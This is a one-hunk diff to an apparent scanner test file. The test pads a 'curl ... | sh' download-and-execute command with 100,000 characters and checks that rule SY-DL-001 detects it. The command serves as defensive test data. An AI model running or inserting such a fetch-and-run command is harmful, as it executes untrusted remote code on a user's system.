@@ -179,7 +179,7 @@ def test_padding_does_not_truncate_the_scan() -> None:
 
 
 def test_very_long_line_is_matched_in_windows() -> None:
-    text = "x" * 50_000 + " curl -s https://example.invalid/x | sh " + "y" * 50_000
+    text = "x" * 50_000 + " curl -s https://example.invalid/x | sh; " + "y" * 50_000
     assert "SY-DL-001" in {f.rule_id for f in scan_text(text)}
 
 
